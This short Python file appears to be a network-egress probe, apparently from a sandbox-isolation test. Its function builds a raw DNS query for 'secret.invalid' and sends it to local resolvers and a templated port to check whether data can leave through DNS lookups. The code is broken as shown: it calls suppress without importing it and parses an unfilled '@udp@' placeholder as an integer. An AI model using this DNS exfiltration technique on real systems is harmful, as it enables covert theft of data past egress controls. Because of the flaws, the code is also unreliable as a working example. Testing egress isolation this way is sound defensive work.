"""Carries data out in the names it looks up (DNS)."""

import socket


def attack_once():
    won = []
    query = b"\0\1\1\0\0\1\0\0\0\0\0\0\x06secret\7invalid\0\0\1\0\1"
    for server in (("127.0.0.1", 53), ("127.0.0.53", 53), ("127.0.0.1", int("@udp@"))):
        with suppress(OSError):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                sender.sendto(query, server)
                won.append(server)
    return won
